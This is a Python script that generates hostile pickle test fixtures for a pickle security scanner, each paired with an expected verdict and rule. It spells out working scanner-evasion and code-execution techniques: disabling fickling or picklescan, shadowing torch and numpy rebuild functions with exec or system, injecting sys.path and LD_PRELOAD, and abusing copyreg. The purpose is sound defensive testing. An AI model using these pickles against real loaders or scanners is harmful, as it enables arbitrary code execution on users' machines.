        "LONG_BINPUT 0xFFFFFFFF (CPython grows the memo array and raises MemoryError)",
        ops=["LONG_BINPUT"])


# ---------------------------------------------------------------------------
# B36 - scanner deactivation
# ---------------------------------------------------------------------------

def gen_b36():
    add("B36", "fickling_remove_hook",
        PROTO(4) + call(SG("fickling.hook", "remove_hook")) + POP + call(SG("posix", "system"), sbu(CMD))
        + STOP, "unsafe", "PKL001", "fickling.hook.remove_hook() then posix.system",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B36", "fickling_deactivate_p0",
        GLOBAL("fickling.hook", "deactivate_safe_ml_environment") + MARK + TUPLE + REDUCE + POP
        + PAY_P0, "unsafe", "PKL001",
        "fickling.hook.deactivate_safe_ml_environment() at protocol 0, then the payload",
        ops=["GLOBAL", "REDUCE"])
    add("B36", "sys_modules_pop_scanner",
        PROTO(4) + call(GLOBAL("sys", "modules.pop"), sbu("picklescan.scanner"), NONE) + POP
        + call(SG("posix", "system"), sbu(CMD)) + STOP, "unsafe", "PKL001",
        "sys.modules.pop('picklescan.scanner') then posix.system", ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B37 - out-of-band buffers (verdict error)
# ---------------------------------------------------------------------------

def gen_b37():
    add("B37", "next_buffer", PROTO(5) + FRAME(NEXT_BUFFER + STOP), "error", "PKL015",
        "NEXT_BUFFER: data comes from the loader's buffers= argument", ops=["NEXT_BUFFER"])
    add("B37", "readonly_buffer", PROTO(5) + NEXT_BUFFER + READONLY_BUFFER + STOP, "error", "PKL015",
        "NEXT_BUFFER then READONLY_BUFFER", ops=["NEXT_BUFFER", "READONLY_BUFFER"])
    add("B37", "next_buffer_in_proto4_dict",
        PROTO(4) + EMPTY_DICT + sbu("weights") + NEXT_BUFFER + SETITEM + STOP, "error", "PKL015",
        "NEXT_BUFFER in a stream declaring protocol 4, stored in a dict", ops=["NEXT_BUFFER"])


# ---------------------------------------------------------------------------
# B38 - shadowed module attributes
# ---------------------------------------------------------------------------

def gen_b38():
    add("B38", "build_shadows_torch_rebuild",
        PROTO(4) + GLOBAL("torch", "_utils") + EMPTY_DICT + sbu("_rebuild_tensor_v2")
        + GLOBAL("builtins", "exec") + SETITEM + BUILD + POP
        + call(GLOBAL("torch._utils", "_rebuild_tensor_v2"), sbu(CODE)) + STOP,
        "unsafe", "PKL005",
        "BUILD on module torch._utils replaces _rebuild_tensor_v2 with builtins.exec, then calls it",
        ops=["BUILD", "REDUCE"])
    add("B38", "build_slotstate_shadows_numpy",
        PROTO(2) + GLOBAL("numpy.core", "multiarray") + NONE + EMPTY_DICT + X("_reconstruct")
        + GLOBAL("posix", "system") + SETITEM + TUPLE2 + BUILD + POP
        + call(GLOBAL("numpy.core.multiarray", "_reconstruct"), X(CMD)) + STOP,
        "unsafe", "PKL005",
        "BUILD (None, slotstate) on numpy.core.multiarray sets _reconstruct = posix.system, then calls it",
        ops=["BUILD", "REDUCE"])
    add("B38", "setattr_shadows_torch_rebuild",
        PROTO(2) + call(GLOBAL("builtins", "setattr"), GLOBAL("torch", "_utils"),
                        X("_rebuild_tensor_v2"), GLOBAL("posix", "system")) + POP
        + call(GLOBAL("torch._utils", "_rebuild_tensor_v2"), X(CMD)) + STOP,
        "unsafe", "PKL001", "builtins.setattr(torch._utils, '_rebuild_tensor_v2', posix.system), then call",
        ops=["REDUCE"])


# ---------------------------------------------------------------------------
# B39 - container opcodes as method calls
# ---------------------------------------------------------------------------

def gen_b39():
    add("B39", "bytearray_setitem_recipe", b"\x80\x02cbuiltins\nbytearray\nC\x03abc\x85RK\x00KAs.",
        "safe", "-", "reference recipe: SETITEM on a bytearray instance (__setitem__ call)"
        " [builtin method of an allowed class (contract §3: container opcodes on allowed instances); the B39 rows on other targets are unsafe]",
        ops=["REDUCE", "SETITEM"])
    add("B39", "deque_appends", b"ccollections\ndeque\n)R(K\x01K\x02e.", "safe", "-",
        "APPENDS on a collections.deque instance (extend call) [builtin method of an allowed class (contract §3: container opcodes on allowed instances); the B39 rows on other targets are unsafe]", ops=["REDUCE", "APPENDS"])
    add("B39", "setitem_on_global_class",
        PROTO(2) + GLOBAL("collections", "OrderedDict") + X("k") + X("v") + SETITEM + STOP,
        "unsafe", "PKL006", "SETITEM on the class object collections.OrderedDict (a GLOBAL)",
        ops=["GLOBAL", "SETITEM"])
    add("B39", "deque_newobj_append",
        PROTO(2) + GLOBAL("collections", "deque") + EMPTY_TUPLE + NEWOBJ + X(CMD) + APPEND + STOP,
        "safe", "-", "APPEND on a deque made by NEWOBJ [builtin method of an allowed class (contract §3: container opcodes on allowed instances); the B39 rows on other targets are unsafe]", ops=["NEWOBJ", "APPEND"])
    add("B39", "sys_path_appends",
        PROTO(2) + GLOBAL("sys", "path") + MARK + X("/tmp/brine-evil") + APPENDS + STOP,
        "unsafe", "PKL006", "APPENDS on the global list sys.path (import path injection)",
        ops=["GLOBAL", "APPENDS"])
    add("B39", "os_environ_setitem",
        PROTO(2) + GLOBAL("os", "environ") + X("LD_PRELOAD") + X("/tmp/brine.so") + SETITEM + STOP,
        "unsafe", "PKL006", "SETITEM on os.environ (putenv LD_PRELOAD)", ops=["GLOBAL", "SETITEM"])
    add("B39", "copyreg_registry_setitems_ext1",
        PROTO(2) + GLOBAL("copyreg", "_inverted_registry") + MARK + BININT(0x2A)
        + tup(X("posix"), X("system")) + SETITEMS + POP + b"\x82\x2a" + X(CMD) + TUPLE1 + REDUCE
        + STOP, "unsafe", "PKL006",
        "SETITEMS registers code 42 -> posix.system in copyreg._inverted_registry, then EXT1 42 + REDUCE",
        ops=["SETITEMS", "EXT1", "REDUCE"])
    add("B39", "maildir_additems",
        PROTO(4) + call(SG("mailbox", "Maildir"), sbu("/tmp/brine-maildir")) + MARK
        + sbu("From: x\n\npwned") + ADDITEMS + STOP, "unsafe", "PKL006",
        "ADDITEMS on a mailbox.Maildir instance (add() writes a file)", ops=["ADDITEMS"])
    add("B39", "bytearray_setitem_p0",
        call0(GLOBAL("builtins", "bytearray"), V("abc"), V("latin1")) + INT(0) + INT(65) + SETITEM
        + STOP, "safe", "-", "protocol-0 SETITEM on a bytearray instance [builtin method of an allowed class (contract §3: container opcodes on allowed instances); the B39 rows on other targets are unsafe]",
        ops=["REDUCE", "SETITEM"])


# ---------------------------------------------------------------------------
# PY2 - names mapped by _compat_pickle when proto < 3
# ---------------------------------------------------------------------------

def gen_py2():
    add("PY2", "commands_getoutput_p2",
        PROTO(2) + call(GLOBAL("commands", "getoutput"), X(CMD)) + STOP, "unsafe", "PKL001",
        "commands.getoutput at protocol 2 (maps to subprocess.getoutput)", ops=["GLOBAL", "REDUCE"])
    add("PY2", "builtin_eval_p0", call0(GLOBAL("__builtin__", "eval"), V(CODE)) + STOP, "unsafe",
        "PKL001", "__builtin__.eval at protocol 0 (maps to builtins.eval)", ops=["GLOBAL", "REDUCE"])
    argv = MARK + X("sh") + X("-c") + X(CMD) + LIST
    add("PY2", "copy_reg_reconstructor_commands_popen",
        PROTO(2) + call(GLOBAL("copy_reg", "_reconstructor"), GLOBAL("commands", "Popen"),
                        GLOBAL("commands", "Popen"), argv) + STOP, "unsafe", "PKL001",
        "copy_reg._reconstructor with base commands.Popen (= subprocess.Popen.__init__)",
        ops=["GLOBAL", "REDUCE"])
    data = (call0(call0(GLOBAL("__builtin__", "reduce"), GLOBAL("__builtin__", "getattr"),
                        MARK + V("system") + LIST,
                        call0(GLOBAL("__builtin__", "__import__"), V("posix"))), V(CMD)) + STOP)
    add("PY2", "builtin_reduce_getattr", data, "unsafe", "PKL001",
        "__builtin__.reduce(getattr, ['system'], __import__('posix'))(cmd) (reduce -> functools.reduce)",
        ops=["GLOBAL", "REDUCE"])
    add("PY2", "urllib_urlopen_p0", call0(GLOBAL("urllib", "urlopen"), V("http://127.0.0.1:8000/x"))
        + STOP, "unsafe", "PKL001", "urllib.urlopen at protocol 0 (maps to urllib.request.urlopen)",
        ops=["GLOBAL", "REDUCE"])
    add("PY2", "cpickle_loads_codecs",
        PROTO(2) + call(GLOBAL("cPickle", "loads"),
                        call(GLOBAL("_codecs", "encode"), X(PAY_P2.decode("latin-1")), X("latin1")))
        + STOP, "unsafe", "PKL001", "cPickle.loads(_codecs.encode(payload, 'latin1')) (maps to pickle.loads)",
        ops=["GLOBAL", "REDUCE"], inner=[("inner", PAY_P2, ["GLOBAL", "REDUCE"])])
    add("PY2", "commands_getoutput_p4",
        PROTO(4) + call(SG("commands", "getoutput"), sbu(CMD)) + STOP, "unsafe", "PKL001",
        "commands.getoutput at protocol 4 (no mapping: unknown module, still a call)",
        ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# UNK - innocuous unknown module
# ---------------------------------------------------------------------------

def gen_unk():
    add("UNK", "mylib_helpers_run",
        PROTO(2) + call(GLOBAL("mylib.helpers", "run"), X(CMD)) + STOP, "unsafe", "PKL001",
        "mylib.helpers.run(cmd): call of a non-allowlisted, non-denied global", ops=["GLOBAL", "REDUCE"])
    add("UNK", "mylib_helpers_run_sg",
        PROTO(4) + FRAME(call(SG("mylib.helpers", "run"), sbu(CMD)) + STOP), "unsafe", "PKL001",
        "mylib.helpers.run via STACK_GLOBAL, framed", ops=["STACK_GLOBAL", "REDUCE"])
    add("UNK", "mylib_helpers_run_inst", MARK + V(CMD) + INST("mylib.helpers", "run") + STOP,
        "unsafe", "PKL001", "mylib.helpers.run by INST with an argument", ops=["INST"])
    add("UNK", "mylib_newobj_build",
        PROTO(2) + GLOBAL("mylib.models", "Loader") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + X("path")
        + X("/tmp/x") + SETITEM + BUILD + STOP, "unsafe", "PKL005",
        "NEWOBJ of unknown class mylib.models.Loader then BUILD (runs its __setstate__)",
        ops=["NEWOBJ", "BUILD"])
    add("UNK", "mylib_class_call",
        PROTO(4) + call(SG("mylib.models", "Net"), sbu("config.yaml")) + STOP, "unsafe", "PKL001",
        "REDUCE on unknown class mylib.models.Net(arg) (class call = call)",
        ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# PID - persistent ids
# ---------------------------------------------------------------------------

def gen_pid():
    pid = tup(X("storage"), call(GLOBAL("posix", "system"), X(CMD)), X("cpu"))
    add("PID", "binpersid_call_in_pid", PROTO(2) + pid + BINPERSID + STOP, "unsafe", "PKL001",
        "BINPERSID whose pid tuple contains a posix.system call result", ops=["REDUCE", "BINPERSID"])
    pid0 = tup0(V("storage"), call0(GLOBAL("posix", "system"), V(CMD)))
    add("PID", "binpersid_call_in_pid_p0", pid0 + BINPERSID + STOP, "unsafe", "PKL001",
        "protocol-0 tuple pid containing a call, BINPERSID without PROTO", ops=["REDUCE", "BINPERSID"])
    add("PID", "persid_result_called",
        PROTO(2) + b"Pposix.system\n" + X(CMD) + TUPLE1 + REDUCE + STOP, "unsafe", "PKL003",
        "PERSID result used as the callable of REDUCE (computed callable)", ops=["PERSID", "REDUCE"])


# ---------------------------------------------------------------------------
# MAL - malformed only (verdict error)
# ---------------------------------------------------------------------------

def gen_mal():
    add("MAL", "binunicode8_huge_len", PROTO(4) + b"\x8d" + U8(1 << 62) + b"abc", "error", "PKL013",
        "BINUNICODE8 declares 2^62 bytes in a 14-byte file", err=True)
    add("MAL", "binbytes8_huge_len", PROTO(4) + b"\x8e" + U8(1 << 40) + b"\x00" * 8 + STOP,
        "error", "PKL013", "BINBYTES8 declares 1 TiB", err=True)
    add("MAL", "bytearray8_huge_len", PROTO(5) + b"\x96" + U8(1 << 33) + b"\x00" * 8 + STOP,
        "error", "PKL013", "BYTEARRAY8 declares 8 GiB", err=True)
    add("MAL", "binunicode_4gib_len", PROTO(2) + b"X" + U4(0xFFFFFFFF) + b"abc" + STOP, "error",
        "PKL013", "BINUNICODE declares 4 GiB", err=True)
    add("MAL", "truncated_global_line", PROTO(2) + b"cbuiltins\nli", "error", "PKL013",
        "GLOBAL name line cut by end of file (no newline)", err=True)
    add("MAL", "unknown_opcode", PROTO(2) + b"\xff" + STOP, "error", "PKL013",
        "unknown opcode 0xff", err=True)
    add("MAL", "missing_stop", PROTO(2) + EMPTY_LIST + BINPUT(0) + MARK + BININT(1) + BININT(2)
        + APPENDS, "error", "PKL013", "benign list with no STOP", err=True)
    add("MAL", "proto6", PROTO(6) + NONE + STOP, "error", "PKL013", "PROTO 6 (unsupported)",
        err=None)
    add("MAL", "stack_underflow", PROTO(2) + BININT(1) + TUPLE1 + REDUCE + STOP, "error", "PKL013",
        "REDUCE with one item on the stack", err=None)
    add("MAL", "long4_negative_len", PROTO(2) + b"\x8b" + I4(-1) + STOP, "error", "PKL013",
        "LONG4 with a negative byte count", err=True)
    add("MAL", "missing_memo", PROTO(2) + BINGET(5) + STOP, "error", "PKL013",
        "BINGET of a memo key never written", err=None)
    add("MAL", "invalid_utf8", PROTO(4) + b"\x8c\x02\xff\xfe" + STOP, "error", "PKL013",
        "SHORT_BINUNICODE with invalid UTF-8", err=True)
    add("MAL", "bad_int_text", b"Iabc\n.", "error", "PKL013", "INT with a non-decimal argument",
        err=True)
    add("MAL", "tuple_without_mark", PROTO(2) + BININT(1) + TUPLE + STOP, "error", "PKL013",
        "TUPLE with no MARK", err=None)
    add("MAL", "unquoted_string", b"S'abc\n.", "error", "PKL013", "STRING without closing quote",
        err=True)
    add("MAL", "lone_proto", b"\x80", "error", "PKL013", "PROTO opcode without its argument", err=True)


GENERATORS = [gen_cf, gen_b14, gen_b15, gen_b16, gen_b17, gen_b18, gen_b19, gen_b20, gen_b21,
              gen_b22, gen_b23, gen_b24, gen_b25, gen_b26, gen_b27, gen_b28, gen_b29, gen_b30,
              gen_b31, gen_b32, gen_b33, gen_b34, gen_b35, gen_b36, gen_b37, gen_b38, gen_b39,
              gen_py2, gen_unk, gen_pid, gen_mal]


# ---------------------------------------------------------------------------
# Validation: disassemble only (pickletools.genops never executes anything)
# ---------------------------------------------------------------------------

def disassemble(data):
    """Disassemble every stream in data with pickletools.genops.

    Returns (opcode names seen, number of complete streams, list of (offset, error)).
    After a STOP it continues with the next stream; after a decode error it resyncs at
    the next b'\\x80' + protocol byte (0..5), like a tolerant multi-stream reader.
    """
    names, streams, errors = [], 0, []
    pos, n = 0, len(data)
    while pos < n:
        end = None
        try:
            for op, _arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                names.append(op.name)
                if op.name == "STOP":
                    end = pos + p + 1
        except Exception as e:  # decode error: record and resync
            errors.append((pos, "%s: %s" % (type(e).__name__, str(e)[:80])))
            nxt = pos + 1
            while nxt < n - 1 and not (data[nxt] == 0x80 and data[nxt + 1] <= 5):
                nxt += 1
            if nxt >= n - 1:
                break
            pos = nxt
            continue
        if end is None:  # genops ended without STOP (cannot happen without an exception)
            errors.append((pos, "no STOP"))
            break
        streams += 1
        pos = end
    return names, streams, errors


def validate(fx):
    problems = []
    names, streams, errors = disassemble(fx["data"])
    seen = set(names)
    for op in fx["ops"]:
        if op not in seen:
            problems.append("expected opcode %s not decoded" % op)
    for op in fx["absent"]:
        if op in seen:
            problems.append("opcode %s should be hidden from genops" % op)
    if fx["err"] is True and not errors:
        problems.append("expected a decode error, got none")
    if fx["err"] is False and errors:
        problems.append("unexpected decode error at %d: %s" % errors[0])
    for label, blob, ops in fx["inner"]:
        inames, _, ierr = disassemble(blob)
        if ierr:
            problems.append("%s: decode error %s" % (label, ierr[0][1]))
        for op in ops:
            if op not in inames:
                problems.append("%s: expected opcode %s not decoded" % (label, op))
    return names, streams, errors, problems


# ---------------------------------------------------------------------------
# Output
# ---------------------------------------------------------------------------

def write_bytes(path, data):
    with open(path, "wb") as f:
        f.write(data)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--root", default=os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()

    for g in GENERATORS:
        g()

    names = [f["name"] for f in FIXTURES]
    assert len(names) == len(set(names)), "duplicate fixture names"
    ids = [f["id"] for f in FIXTURES]
    assert len(ids) == len(set(ids)), "duplicate ids"

    outdir = os.path.join(args.root, "tests", "data", "pickle", "threats")
    os.makedirs(outdir, exist_ok=True)
    for old in sorted(os.listdir(outdir)):
        if old.endswith(".pkl") and old not in names:
            os.remove(os.path.join(outdir, old))

    total = 0
    failed = 0
    if not args.quiet:
        print("%-6s %-50s %7s %3s %7s  %s" % ("id", "fixture", "bytes", "str", "opcodes", "decode"))
    for fx in FIXTURES:
        data = fx["data"]
        size = len(data)
        total += size
        if fx["name"] not in BIG_OK and size > SMALL_CAP:
            print("SIZE: %s is %d bytes" % (fx["name"], size))
            failed += 1
        write_bytes(os.path.join(outdir, fx["name"]), data)
        ops, streams, errors, problems = validate(fx)
        dec = "ok" if not errors else "error@%d %s" % errors[0]
        if not args.quiet or problems:
            print("%-6s %-50s %7d %3d %7d  %s" % (fx["id"], fx["name"], size, streams, len(ops), dec))
        for p in problems:
            print("    MISMATCH: " + p)
        failed += bool(problems)
    if total > TOTAL_CAP:
        print("SIZE: total %d bytes exceeds %d" % (total, TOTAL_CAP))
        failed += 1

    # threats.tsv
    rows = ["id\tfixture\tverdict\trule\ttechnique"]
    for fx in FIXTURES:
        rows.append("\t".join((fx["id"], fx["name"], fx["verdict"], fx["rule"], fx["technique"])))
    with open(os.path.join(args.root, "tests", "threats.tsv"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(rows) + "\n")

    # MANIFEST.tsv
    man = ["file\tsha256\tsize"]
    for name in sorted(names):
        data = next(f["data"] for f in FIXTURES if f["name"] == name)
        man.append("%s\t%s\t%d" % (name, hashlib.sha256(data).hexdigest(), len(data)))
    with open(os.path.join(outdir, "MANIFEST.tsv"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(man) + "\n")

    # README.md
    lines = [
        "# Hostile pickle fixtures",
        "",
        "Generated by `tools/gen_threats.py` (Debian `/usr/bin/python3`, stdlib only); do not edit by",
        "hand, rerun the generator. Every file is assembled as literal bytes and was never unpickled.",
        "Payloads are harmless (`echo pwned`, `print('pwned')`) and name host-independent modules",
        "(`posix` for `os.system`). **Never load these files.**",
        "",
        "Expected results are in `tests/threats.tsv` (id, fixture, verdict, rule that must be among",
        "the findings, technique); `MANIFEST.tsv` lists the sha256 and size of every fixture.",
        "Technique ids B14-B39 refer to the bypass catalogue of `reference/pickle-threats.md` section 4;",
        "CF, PY2, UNK, PID and MAL are extra groups described below.",
        "",
    ]
    for gid, title in GROUPS:
        group = [f for f in FIXTURES if f["group"] == gid]
        if not group:
            continue
        verdicts = sorted(set(f["verdict"] for f in group))
        lines.append("## %s - %s (%d, verdict %s)" % (gid, title, len(group), "/".join(verdicts)))
        lines.append("")
        for f in group:
            lines.append("- `%s` (%s, %s): %s" % (f["name"], f["id"], f["rule"], f["technique"]))
        lines.append("")
    with open(os.path.join(outdir, "README.md"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines))

    # summary
    per = {}
    for fx in FIXTURES:
        per[fx["group"]] = per.get(fx["group"], 0) + 1
    print("fixtures: %d, total %d bytes; per technique: %s" % (
        len(FIXTURES), total, ", ".join("%s=%d" % (g, per[g]) for g, _ in GROUPS if g in per)))
    if failed:
        print("FAILED: %d fixture(s) did not decode as intended" % failed)
        return 1
    print("all fixtures decode as intended (pickletools.genops only; nothing executed)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
